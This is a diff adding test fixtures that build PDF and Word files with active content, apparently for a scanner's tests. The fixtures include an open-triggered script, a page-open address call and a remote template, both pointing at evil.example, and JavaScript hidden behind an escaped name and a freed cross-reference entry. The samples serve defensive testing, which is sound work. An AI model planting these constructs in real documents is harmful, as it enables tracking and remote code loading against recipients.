@@ -264,3 +264,124 @@ def damaged_png(png: bytes) -> bytes:
     """A real PNG with a byte of its image data changed: its checksum no longer holds."""
     position = png.index(b"IDAT") + 6
     return png[:position] + bytes([png[position] ^ 0xFF]) + png[position + 1 :]
+
+
+# ------------------------------------------- active content a viewer runs, fetches or opens
+
+
+def raw_pdf(catalog: bytes, *objects: tuple[int, bytes], unlisted: tuple[int, ...] = ()) -> bytes:
+    """A one-page PDF written by hand: object 1 the catalog (`catalog` inside its dictionary),
+    then `objects`; those in `unlisted` are in the file but free in the cross-reference table."""
+    body = [
+        (1, b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>"),
+        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
+        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
+        *objects,
+    ]
+    out, offsets = b"%PDF-1.7\n", {}
+    for number, data in body:
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, data)
+    start, size = len(out), max(offsets) + 1
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+    for number in range(1, size):
+        listed = number in offsets and number not in unlisted
+        out += b"%010d 00000 n \n" % offsets[number] if listed else b"0000000000 65535 f \n"
+    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
+
+
+def pdf_with_xfa_script() -> bytes:
+    xfa = (
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event '
+        b'activity="initialize"><script contentType="application/x-javascript">app.alert(1)'
+        b"</script></event></subform></template></xdp:xdp>"
+    )
+    return raw_pdf(
+        b"/AcroForm 5 0 R /NeedsRendering true",
+        (4, b"<< /Length %d >>\nstream\n%s\nendstream" % (len(xfa), xfa)),
+        (5, b"<< /Fields [] /XFA 4 0 R >>"),
+    )
+
+
+def pdf_opening_with(action: bytes) -> bytes:
+    return raw_pdf(b"/OpenAction << " + action + b" >>")
+
+
+def pdf_page_opening_address() -> bytes:
+    """A /URI action in a page's additional actions, behind a reference."""
+    return raw_pdf(
+        b"/Pages 2 0 R",
+        (4, b"<< /S /URI /URI (http://evil.example/track) >>"),
+        (5, b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>"),
+        (6, b"<< /Type /Page /Parent 5 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>"),
+    ).replace(b"/Pages 2 0 R /Pages 2 0 R", b"/Pages 5 0 R")
+
+
+def pdf_with_unlisted_javascript() -> bytes:
+    """The /OpenAction's script object is in the file, its cross-reference entry free."""
+    return raw_pdf(
+        b"/OpenAction 4 0 R", (4, b"<< /S /J#61vaScript /JS (app.alert(1)) >>"), unlisted=(4,)
+    )
+
+
+def pdf_with_a_link() -> bytes:
+    """An ordinary link annotation to a web address, followed only when clicked."""
+    return raw_pdf(
+        b"/Pages 5 0 R",
+        (
+            4,
+            b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 70] /A << /S /URI /URI "
+            b"(https://thuvienphapluat.vn/) >> >>",
+        ),
+        (5, b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>"),
+        (6, b"<< /Type /Page /Parent 5 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"),
+    ).replace(b"/Pages 2 0 R /Pages 5 0 R", b"/Pages 5 0 R")
+
+
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def docx_with(parts: dict[str, bytes]) -> bytes:
+    """A real python-docx document plus `parts` (by name), replacing any of the same name."""
+    return zip_with(docx_bytes(), parts)
+
+
+def zip_with(package: bytes, parts: dict[str, bytes]) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(package)) as source:
+        files = {name: source.read(name) for name in source.namelist()}
+    files.update(parts)
+    return zip_of(files)
+
+
+def relationships(*entries: str) -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
+        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + "".join(entries)
+        + "</Relationships>"
+    ).encode()
+
+
+def docx_with_remote_template() -> bytes:
+    rel = (
+        f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" '
+        'Target="http://evil.example/t.dotm" TargetMode="External"/>'
+    )
+    return docx_with({"word/_rels/settings.xml.rels": relationships(rel)})
+
+
+def docx_with_internal_hyperlink() -> bytes:
+    """document.xml.rels as python-docx writes it, plus a hyperlink to a part of the file."""
+    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source:
+        rels = source.read("word/_rels/document.xml.rels")
+    link = f'<Relationship Id="rId99" Type="{RELS}/hyperlink" Target="#muc-2"/>'.encode()
+    rels = rels.replace(b"</Relationships>", link + b"</Relationships>")
+    return docx_with({"word/_rels/document.xml.rels": rels})
+
+
+def docx_with_chart_workbook() -> bytes:
+    """A chart's data, as Word stores it: a workbook under word/embeddings/."""
+    workbook = Workbook()
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return docx_with({"word/embeddings/Microsoft_Excel_Worksheet1.xlsx": buffer.getvalue()})
